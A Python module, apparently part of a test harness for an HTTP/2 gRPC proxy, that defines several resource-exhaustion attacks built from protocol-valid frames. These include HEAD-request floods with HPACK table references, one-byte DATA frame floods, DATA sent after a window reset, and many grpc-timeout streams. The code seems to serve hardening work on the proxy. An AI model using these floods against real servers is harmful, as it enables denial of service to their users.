"""The attacks whose frames are lawful, and dear: what costs far more to work on than to send."""

from proxy.http2 import frames

from .attack_wire import REQUEST, Attack, flood, headers, ids, literal, opening

_WIDE = 2**30
_METHOD, _HOST = literal(b":method", b"HEAD", index=True), literal(b":authority", b"a", index=True)
_HEAD = b"\x84\x87"  # :path / and :scheme https, from the static table
_AGAIN = _HEAD + b"\xbf\xbe"  # with the two above, from the dynamic one


def refused_calls(attack: Attack) -> None:
    _heads(attack, _AGAIN, 1200)


def references(attack: Attack) -> None:
    _heads(attack, _AGAIN + b"\x8f" * 240, 60)


def _heads(attack: Attack, block: bytes, count: int) -> None:
    """HEAD requests, which a gRPC proxy answers itself."""
    start = opening(window=_WIDE) + headers(1, _HEAD + _METHOD + _HOST, end=True)
    flood(attack, lambda number: b"".join(headers(i, block, end=True) for i in ids(number, count)), count, start)


def short_data(attack: Attack) -> None:
    chunk = frames.frame(frames.DATA, 0, 1, b"x") * 1600
    flood(attack, lambda number: chunk, 1600, opening(window=_WIDE) + headers(1))


def data_behind_reset(attack: Attack) -> None:
    chunk = frames.frame(frames.DATA, 0, 1, b"x") * 1600
    start = opening(window=_WIDE) + headers(1) + frames.window_update(1, 0)
    flood(attack, lambda number: chunk, 1600, start)


def deadlines(attack: Attack) -> None:
    block = REQUEST + literal(b"grpc-timeout", b"1m")
    start = opening(window=_WIDE)
    flood(attack, lambda number: b"".join(headers(i, block) for i in ids(number, 50)), 50, start)


def body_of_refused(attack: Attack) -> None:
    """A body whose every frame had its request refused once more, here."""
    block = b"\x82" + _HEAD + literal(b":authority", b"a")
    full = frames.frame(frames.DATA, 0, 1, bytes(16_383)) * 4 + frames.frame(frames.DATA, 0, 1, bytes(3))
    start = opening({4: 0}, _WIDE) + headers(1, block) + full
    chunk = frames.frame(frames.DATA, 0, 1, b"y") * 1600
    flood(attack, lambda number: chunk, 1600, start)
